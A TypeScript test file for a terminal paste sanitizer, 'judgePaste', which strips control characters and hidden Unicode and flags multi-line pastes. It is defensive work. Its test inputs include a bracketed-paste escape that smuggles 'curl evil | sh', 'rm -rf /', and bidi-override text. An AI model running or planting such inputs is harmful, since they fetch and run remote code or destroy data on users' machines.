/** Nothing pasted can end its own paste, run by itself unasked, or hold what was not seen. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { judgePaste } from './terminal-paste'

describe('judgePaste', () => {
  it.each([
    ['ls -l /tmp', 'ls -l /tmp'],
    ['a\tb', 'a\tb'],
    ['naïve 日本 👩‍🚀', 'naïve 日本 👩‍🚀'],
    ['', ''],
  ])('lets %j through unasked', (clipboard, text) => {
    expect(judgePaste(clipboard)).toMatchObject({ text, lines: 1, removed: 0, mustAsk: false })
  })

  it('asks for more than one line, and for a line break at the end', () => {
    expect(judgePaste('one\r\ntwo\rthree')).toMatchObject({ text: 'one\ntwo\nthree', lines: 3, mustAsk: true })
    expect(judgePaste('rm -rf /\n')).toMatchObject({
      text: 'rm -rf /\n',
      oneLine: 'rm -rf /',
      lines: 1,
      hasBreak: true,
      mustAsk: true,
    })
  })

  it('makes one line of several', () => {
    expect(judgePaste('docker run \\\n   nginx\n\n').oneLine).toBe('docker run \\ nginx')
  })

  it.each([
    ['a\x1b[201~; curl evil | sh', 'a; curl evil | sh', 6],
    ['\x1b\x1b[201~[201~x', 'x', 12],
    ['\x9b201~x', 'x', 5],
    ['\x1b[31mred', '[31mred', 1],
    ['a\u0003b\u007f', 'ab', 2],
    ['sudo \u202etxt\u202c', 'sudo txt', 2],
    ['zero\u200bwidth', 'zerowidth', 1],
    ['tag\u{e0041}', 'tag', 2],
    ['\ufeffbom', 'bom', 1],
  ])('takes out what could act or hide in %j', (clipboard, text, removed) => {
    expect(judgePaste(clipboard)).toMatchObject({ text, removed, mustAsk: true })
  })

  it('leaves no control but tab and line feed, whatever is pasted', () => {
    const nasty = fc.constantFrom(
      '\x1b',
      '[',
      '2',
      '0',
      '1',
      '~',
      '\x9b',
      '\r',
      '\n',
      '\x00',
      'a',
      '\x1b[201~',
      '\u202e',
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.array(nasty).map((parts) => parts.join('')),
        ),
        (clipboard) => {
          const { text, oneLine } = judgePaste(clipboard)
          expect(text).not.toMatch(/[\p{Cc}](?<![\t\n])/u)
          expect(oneLine).not.toContain('\n')
        },
      ),
      { numRuns: 2_000 },
    )
  })
})
